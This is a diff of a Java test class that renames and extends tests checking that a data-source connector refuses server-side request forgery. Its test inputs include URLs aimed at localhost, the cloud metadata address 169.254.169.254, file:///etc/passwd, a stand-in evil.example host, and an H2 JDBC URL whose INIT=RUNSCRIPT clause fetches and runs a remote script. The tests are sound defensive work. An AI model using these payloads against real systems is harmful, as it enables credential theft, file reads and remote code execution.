@@ -136,13 +136,20 @@ class SourcesTest {
   }
 
   @Test
-  void refusesItsOwnMachineUnlessTheSourceAllowsIt() {
+  void attack18SsrfByConnectorUrlToItsOwnMachine() {
     web("");
     assertThat(refused("").code()).isEqualTo("outbound-refused");
   }
 
+  /** The name is judged by the address it resolves to, at each request anew. */
   @Test
-  void refusesAPathThatLeavesTheHost() {
+  void attack18SsrfByNameThatResolvesToItsOwnMachine() {
+    source("http: {url: \"http://localhost:1/base\"}");
+    assertThat(refused("").code()).isEqualTo("outbound-refused");
+  }
+
+  @Test
+  void attack18SsrfByPathThatLeavesTheHost() {
     source("http: {url: \"http://127.0.0.1\", privateNetwork: true}");
     assertThat(refused("?@evil.example/").code()).isNotEqualTo("outbound-refused");
     assertThat(refused("/\u0000").code()).isEqualTo("outbound-refused");
@@ -157,7 +164,7 @@ class SourcesTest {
   }
 
   @Test
-  void refusesRedirectsToOtherHostsSchemesAndWithoutEnd() {
+  void attack18SsrfByRedirectToAnotherHostOrScheme() {
     web(", privateNetwork: true");
     redirect("/base/away", "http://metadata.example/");
     redirect("/base/file", "file:///etc/passwd");
@@ -168,7 +175,7 @@ class SourcesTest {
   }
 
   @Test
-  void judgesTheAddressOfEveryRedirect() {
+  void attack18SsrfByRedirectToMetadata() {
     web(", privateNetwork: true, allowedHosts: [\"169.254.169.254\"]");
     redirect("/base/meta", "http://169.254.169.254/latest/meta-data");
     assertThat(refused("meta").detail()).contains("link-local");
@@ -369,7 +376,7 @@ class SourcesTest {
   }
 
   @Test
-  void refusesAUrlThatRunsScripts() {
+  void attack18SsrfByJdbcUrlThatRunsScripts() {
     source("jdbc: {url: \"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example'\"}");
     Problem problem =
         catchThrowableOfType(ProblemException.class, () -> sources.jdbc("it").getConnection())
